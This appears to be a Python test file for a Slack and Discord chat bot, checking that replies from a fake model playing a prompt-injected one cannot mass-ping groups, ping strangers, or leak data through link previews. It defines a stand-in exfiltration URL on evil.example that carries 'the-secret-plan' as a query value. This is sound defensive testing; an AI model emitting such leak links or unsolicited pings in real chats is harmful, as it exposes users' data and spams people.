"""Issue 19, item 11: what the model writes cannot page a team or a stranger, nor leak data
through a link preview. Through slack-bolt and discord.py against their fakes, the answer from
the OpenAI fake playing a prompt-injected model."""

from __future__ import annotations

from pathlib import Path

from bot.core.types import ConversationKey
from bot.text.mentions import ConversationMentions
from testing.fakes import slack_payloads as P
from testing.fakes.openai_fake import FakeOpenAI
from tests.test_discord_adapter import (  # noqa: F401 (fixtures)
    discord_seams,
    fake_discord,
    mention,
    openai_fake,
    running_bot,
)
from tests.test_slack_adapter import start_env, stop_env

LEAK = "https://evil.example/collect?d=the-secret-plan"
SUPPRESS_EMBEDS = 1 << 2


def test_neutralise_keeps_only_the_mentions_the_conversation_showed() -> None:
    seen = ConversationMentions()
    key = ConversationKey("slack", "T1", "C1", "123.4")
    seen.note(key, "ask <@UBOB> about it", "UALICE")
    text = "Hi <@UALICE>, <@UBOB|bob>, <@UEVE>, <!subteam^S1|@eng>, <!subteam^S2>, <!here>"
    assert seen.neutralise(key, text) == ("Hi <@UALICE>, <@UBOB|bob>, @UEVE, @eng, @group, @here")
    other = ConversationKey("slack", "T1", "C2")
    assert seen.neutralise(other, "<@UALICE>") == "@UALICE"


async def test_slack_posts_no_group_pings_no_stranger_pings_and_no_unfurls(
    tmp_path: Path,
) -> None:
    env = await start_env(tmp_path)
    try:
        env.openai.answer = lambda turn: (
            f"Sure <@{P.USER_ID}>! <!subteam^S0ENG|@eng> <@UEVE> and <!channel>: see {LEAK}"
        )
        await env.slack.send_event(P.im_message("what's new?"))
        await env.settle(1)
        (text,) = env.bot_texts(P.DM_CHANNEL_ID)
        # the bare @channel left over is broken too (adapters.slack.mentions: a word joiner)
        assert text == f"Sure <@{P.USER_ID}>! @eng @UEVE and @channe\u2060l: see {LEAK}"
        posts = env.slack.calls_to("chat.postMessage")
        assert posts and all(
            str(c.args.get("unfurl_links")).lower() in ("false", "0")
            and str(c.args.get("unfurl_media")).lower() in ("false", "0")
            for c in posts
        )
    finally:
        await stop_env(env)


async def test_discord_suppresses_link_previews_and_stranger_mentions(
    discord_seams: None,  # noqa: F811
    openai_fake: FakeOpenAI,  # noqa: F811
    tmp_path: Path,
) -> None:
    async with fake_discord() as dc, running_bot(dc, openai_fake, tmp_path) as bot:
        stranger = dc.admin["id"]
        openai_fake.answer = lambda turn: f"Ask <@{stranger}> or <@{dc.member['id']}>: {LEAK}"
        incoming = await dc.send_message_create(
            dc.text_channel["id"], dc.member, mention(dc, "who knows?")
        )
        answer = await bot.answer_to(incoming)
        assert answer["content"] == f"Ask @{stranger} or <@{dc.member['id']}>: {LEAK}"
        assert answer["flags"] & SUPPRESS_EMBEDS
